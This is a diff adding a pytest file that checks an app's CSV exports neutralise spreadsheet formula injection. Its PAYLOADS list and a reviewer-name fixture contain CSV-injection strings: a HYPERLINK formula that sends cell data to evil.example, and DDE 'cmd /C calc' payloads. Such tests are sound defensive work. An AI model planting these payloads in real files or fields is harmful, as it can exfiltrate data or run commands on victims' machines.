@@ -1,0 +1,77 @@
+"""No CSV export lets a spreadsheet evaluate a cell: a title or a name that starts like a
+formula (= + - @, a tab, a carriage return or a line feed, their full-width forms, or
+any of them after spaces) gets a leading apostrophe; numbers stay numbers. Before the
+fix a cell starting with a tab, a carriage return, a line feed, a full-width sign or
+spaces went out as it was."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from sqlalchemy import select
+from sqlalchemy.orm import Session, sessionmaker
+
+from opencall.people.models import User
+from opencall.proposals.models import Proposal
+from opencall.reviews.models import ReviewAssignment
+from opencall.web.csv import FORMULA_START, csv_cell
+from tests.scale.test_page_queries import world
+from tests.web.conftest import Web
+
+PAYLOADS = [
+    "=HYPERLINK('http://evil.example/?'&A1,\"click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+]
+
+
+def _dangerous(cell: str) -> bool:
+    return cell.lstrip(" ")[:1] in FORMULA_START
+
+
+def test_a_cell_is_never_a_formula() -> None:
+    for text in PAYLOADS:
+        assert csv_cell(text) == "'" + text
+    for number in ("-5", "+1.5", "-0.25", "12"):
+        assert csv_cell(number) == number
+    assert csv_cell("Pulsars - timing") == "Pulsars - timing"
+
+
+def test_the_exports_quote_formulas(web: Web, factory: sessionmaker[Session]) -> None:
+    data = world(factory, 3)
+    with factory() as s:
+        codes = data["codes"]
+        props = s.scalars(select(Proposal).where(Proposal.code.in_(codes))).all()
+        for p, text in zip(props, PAYLOADS, strict=False):
+            p.title = text
+        reviewer = s.scalars(
+            select(User)
+            .join(ReviewAssignment, ReviewAssignment.reviewer_id == User.id)
+            .where(ReviewAssignment.proposal_id.in_([p.id for p in props]))
+        ).first()
+        assert reviewer is not None
+        reviewer.name = "\t=cmd|' /C calc'!A0"
+        s.commit()
+    chair = web.login(data["chair"])
+    slug = data["slug"]
+    seen = 0
+    for what in ("decisions", "assignment", "ranking", "schedule"):
+        r = chair.get(f"/manage/calls/{slug}/{what}?format=csv")
+        assert r.status_code == 200, (what, r.text[:300])
+        rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
+        for row in rows[1:]:
+            for cell in row:
+                if cell.startswith("'"):
+                    seen += 1
+                assert not _dangerous(cell), (what, cell)
+    assert seen >= 6  # the titles (decisions, assignment, ranking) and the reviewer's name
